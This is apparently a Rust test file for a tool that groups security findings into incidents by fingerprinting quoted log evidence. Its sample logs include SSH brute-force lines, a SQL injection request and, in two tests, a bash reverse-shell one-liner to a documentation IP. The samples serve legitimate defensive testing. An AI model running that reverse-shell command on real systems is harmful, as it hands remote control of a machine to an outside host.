use super::*;
use crate::finding::{Evidence, Finding};

pub(crate) fn subject(category: Category, title: &str, quotes: &[&str]) -> Fingerprint {
    Fingerprint::of(&finding(category, title, quotes))
}

pub(crate) fn finding(category: Category, title: &str, quotes: &[&str]) -> Finding {
    let evidence = quotes.iter().map(|quote| Evidence {
        quote: (*quote).to_owned(),
        bounds: None,
        grounded: Some(true),
    });
    Finding {
        category,
        title: title.to_owned(),
        evidence: evidence.collect(),
        ..Finding::sample()
    }
}

fn same(a: &Fingerprint, b: &Fingerprint) -> bool {
    let (there, back) = (a.similarity(b), b.similarity(a));
    assert_eq!(there.is_some(), back.is_some(), "{a:?}\n{b:?}");
    there.is_some()
}

const FAILED: &str = "Failed password for admin from 203.0.113.45 port 51502 ssh2";

#[test]
fn wording_does_not_matter() {
    let first = subject(Category::Intrusion, "Burst of failed logins", &[FAILED]);
    for (category, title, quotes) in [
        (
            Category::Anomaly,
            "Someone hammers the admin account",
            &["Failed password for admin from 203.0.113.45 port 60001 ssh2"][..],
        ),
        (
            Category::Intrusion,
            "Password guessing against web-01",
            &["10:02:11 Fai1ed passw0rd for admin from 203.0.113.45"],
        ),
        (
            Category::Intrusion,
            "Brute force succeeded",
            &["Accepted password for admin from 203.0.113.45 port 51544 ssh2"],
        ),
        (
            Category::Intrusion,
            "Credential stuffing from 203.0.113.45",
            &[],
        ),
        (
            Category::Architecture,
            "No lockout after repeated failures",
            &[FAILED],
        ),
    ] {
        assert!(same(&first, &subject(category, title, quotes)), "{title}");
    }
}

#[test]
fn two_attacks_on_one_host_are_separate() {
    let c = Category::Intrusion;
    let attacks = [
        subject(c, "Attack on web-01", &[FAILED, "index=auth host=web-01"]),
        subject(
            c,
            "Attack on web-01",
            &[
                "Failed password for admin from 198.51.100.7 port 4 ssh2",
                "index=auth host=web-01",
            ],
        ),
        subject(
            c,
            "Attack on web-01",
            &["bash -i >& /dev/tcp/203.0.113.45/4444 0>&1", "host web-01"],
        ),
        subject(
            c,
            "Privilege escalation: admin became root on web-01 after a reverse shell",
            &["sudo: admin : USER=root ; COMMAND=/bin/bash"],
        ),
        subject(
            c,
            "Suspicious activity on web-01",
            &["GET /index.php?id=1 UNION SELECT name host=web-01"],
        ),
        subject(
            c,
            "Suspicious activity on web-01",
            &["kernel module rootkit.ko inserted host=web-01"],
        ),
    ];
    for (at, a) in attacks.iter().enumerate() {
        for b in &attacks[at + 1..] {
            assert!(!same(a, b), "{a:?}\n{b:?}");
        }
    }
}

#[test]
fn same_activity_on_another_host_is_separate() {
    let c = Category::Availability;
    let line = |pod: &str| format!("{pod} 0/1 CrashLoopBackOff 27 (41s ago)");
    let worker = subject(c, "Crash loop", &[&line("ledger-worker-59d7c8f6b-k2vnq")]);
    let later = subject(
        c,
        "Worker restarts",
        &[&line("ledger-worker-59d7c8f6b-x9hjr")],
    );
    let report = subject(c, "Crash loop", &[&line("ledger-report-6f8d9b7c4-x9hjr")]);
    assert!(same(&worker, &later));
    assert!(!same(&worker, &report));
    let cve = |id: &str, host: &str| {
        subject(
            Category::Vulnerability,
            "Vulnerable",
            &[&format!("{id} in xz-utils 5.6.1 {host}")],
        )
    };
    assert!(same(
        &cve("CVE-2024-3094", "etl-runner-1"),
        &cve("CVE-2024-3094", "etl-runner-2")
    ));
    assert!(!same(
        &cve("CVE-2024-3094", "etl-runner-1"),
        &cve("CVE-2023-4863", "etl-runner-1")
    ));
}

#[test]
fn findings_without_quotes_are_compared_by_title() {
    let c = Category::Anomaly;
    let first = subject(c, "Unusual dip in checkout orders graph", &[]);
    assert!(same(
        &first,
        &subject(c, "Checkout orders dipping on the graph", &[])
    ));
    assert!(!same(&first, &subject(c, "Weird colours in the logo", &[])));
    assert!(!same(
        &first,
        &subject(
            Category::Policy,
            "Unusual dip in checkout orders graph",
            &[]
        )
    ));
}

#[test]
fn summary_of_two_incidents_joins_one() {
    let c = Category::Intrusion;
    let shell = "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1";
    let mut chain = subject(c, "Brute force, then a shell", &[FAILED]);
    assert!(chain.absorb(&subject(
        c,
        "Chain",
        &["Failed password for root from 203.0.113.45", shell]
    )));
    assert!(!same(&chain, &subject(c, "Reverse shell", &[shell])));
}

#[test]
fn repeat_adds_nothing() {
    let mut first = subject(Category::Intrusion, "Burst", &[FAILED]);
    let again = subject(
        Category::Intrusion,
        "Burst again",
        &["Failed password for admin from 203.0.113.45 port 9 ssh2"],
    );
    assert!(!first.absorb(&again));
    assert!(first.absorb(&subject(
        Category::Intrusion,
        "In",
        &["Accepted password for admin from 203.0.113.45 port 51544 ssh2"]
    )));
}

#[test]
fn stored_fingerprint_round_trips() {
    let mut subject = subject(Category::Intrusion, "Attack on web-01", &[FAILED]);
    let text = serde_json::to_string(&subject).unwrap();
    // Kept for a finding only.
    subject.claimed.clear();
    assert_eq!(serde_json::from_str::<Fingerprint>(&text).unwrap(), subject);
}

/// Line with an attacker and a target.
type SentenceForm<'a> = &'a dyn Fn(&str, &str) -> String;

/// Attackers distinguish two attacks; a common target or bystander does not
/// join them.
#[test]
fn shared_victim_or_resolver_does_not_join() {
    let c = Category::Intrusion;
    let firewall =
        |from: &str, to: &str| format!("port scan SRC={from} DST={to} PROTO=TCP dropped");
    let flow = |from: &str, to: &str| format!("nmap {from}:40001 -> {to}:22 SYN denied");
    let bare = |one: &str, other: &str| format!("port scan {one} {other} tcp denied");
    let dns_query = |from: &str, to: &str| format!("{} answered by dns 192.0.2.53", bare(from, to));
    let failed =
        |from: &str, to: &str| format!("Failed password for admin from {from} on {to} ssh2");
    let called = |to: &str, from: &str| format!("beacon {from}:50000 -> {to}:443 every 60 s");
    let forms: [(&str, SentenceForm<'_>); 6] = [
        ("firewall", &firewall),
        ("flow", &flow),
        ("bare", &bare),
        ("asked", &dns_query),
        ("failed", &failed),
        ("beacon", &called),
    ];
    let (one, other, victim) = ("203.0.113.4", "198.51.100.7", "192.0.2.10");
    for (name, line) in forms {
        let scan = |by: &str, to: &str| subject(c, "Somebody at it", &[&line(by, to)]);
        let first = scan(one, victim);
        assert!(!same(&first, &scan(other, victim)), "{name}");
        assert!(!same(&first, &scan("203.0.113.45", victim)), "{name}");
        assert!(same(&first, &scan(one, victim)), "{name}");
        // Other wordings, with and without the target.
        let reworded = subject(c, &format!("Trouble from {one}"), &[&line(one, victim)]);
        assert!(same(&first, &reworded), "{name}");
    }
    // One tool states the roles and the next does not.
    let known = subject(c, "Scan", &[&firewall(one, victim)]);
    assert!(!same(&known, &subject(c, "Scan", &[&bare(other, victim)])));
    assert!(!same(&known, &subject(c, "Scan", &[&bare(victim, other)])));
    assert!(same(&known, &subject(c, "Scan", &[&bare(victim, one)])));
    assert!(same(
        &known,
        &subject(
            c,
            "Nmap port scan",
            &[&format!("port scan against {victim} seen")]
        )
    ));
}

#[test]
fn overlapping_sets_of_attackers_join() {
    let c = Category::Intrusion;
    let lines = |range: std::ops::Range<u32>| -> Vec<String> {
        range
            .map(|n| format!("Failed password for admin from 203.0.113.{n} port 22 ssh2"))
            .collect()
    };
    let spray = |range| {
        let lines = lines(range);
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        subject(c, "Password spraying", &lines)
    };
    assert!(same(&spray(1..9), &spray(4..12)));
    assert!(!same(&spray(1..9), &spray(8..16)));
}

#[test]
fn names_with_ocr_confusions_are_equal() {
    let c = Category::Intrusion;
    let first = subject(
        c,
        "Burst",
        &["Failed password for admin from 203.0.113.45 on web-01"],
    );
    for line in [
        "Failed password for adrnin from 203.0.113.45 on web-01",
        "Fai1ed passw0rd for admin from 2O3.0.113.45 on web-O1",
        "Failed password for admin from 203.o.ll3.45 on web-0l",
    ] {
        assert!(same(&first, &subject(c, "Burst", &[line])), "{line}");
        assert_eq!(
            first.unknown_entity(&subject(c, "Burst", &[line])),
            None,
            "{line}"
        );
    }
}

/// Neither `db01` nor `db02` has a hyphen or a dot in it.
#[test]
fn short_host_names_are_distinguished() {
    let on = |host: &str| {
        subject(
            Category::Intrusion,
            &format!("Brute force on {host}"),
            &[&format!("14 failed logins on {host}")],
        )
    };
    assert!(same(&on("db01"), &on("db01")));
    assert!(!same(&on("db01"), &on("db02")));
}

#[test]
fn same_lines_are_the_same_subject_in_any_category() {
    let lines = [
        "Failed password for admin from 203.0.113.4 port 515 ssh2 host=web-01",
        "Accepted password for admin from 203.0.113.4 port 516 ssh2 host=web-01",
    ];
    let known = subject(Category::Intrusion, "Brute force", &lines);
    // Of an unrelated category all lines are needed; less is no more than the
    // same activity.
    let all = subject(Category::Availability, "Login service is busy", &lines);
    let half = subject(
        Category::Availability,
        "Login service is busy",
        &[
            lines[0],
            "upstream timed out while reading response header of login",
        ],
    );
    let same = known.similarity(&all).expect("the same lines");
    assert!(same.is_strong());
    assert!(known.similarity(&half).expect("the same activity") < same);
    // Of two with the same lines, the one with more names in common.
    let fewer = subject(Category::Intrusion, "Brute force of web-02", &lines);
    assert!(known.similarity(&fewer).expect("the same lines") < same);
}
